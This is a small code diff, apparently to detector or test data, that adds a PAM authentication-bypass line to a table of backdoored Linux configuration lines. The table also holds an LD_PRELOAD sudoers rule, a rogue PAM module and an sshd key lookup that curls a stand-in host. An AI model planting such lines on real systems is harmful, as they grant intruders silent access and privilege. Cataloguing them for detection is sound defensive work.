@@ -29,6 +29,8 @@ TOLD = (
     ("etc/sudoers", 'Defaults env_keep += "LD_PRELOAD"', "grants rights"),
     ("etc/pam.d/sshd", "auth [success=done default=ignore] pam_succeed_if.so user = s",
      "turns a check off"),
+    ("etc/pam.d/login", "auth [success=1 default=ignore] pam_succeed_if.so user = s",
+     "turns a check off"),
     ("etc/pam.d/login", "auth sufficient pam_q.so", "hooks log-in"),
     ("etc/ssh/sshd_config", "AuthorizedKeysCommand /usr/bin/curl -s https://k.example/%u",
      "lets in"),
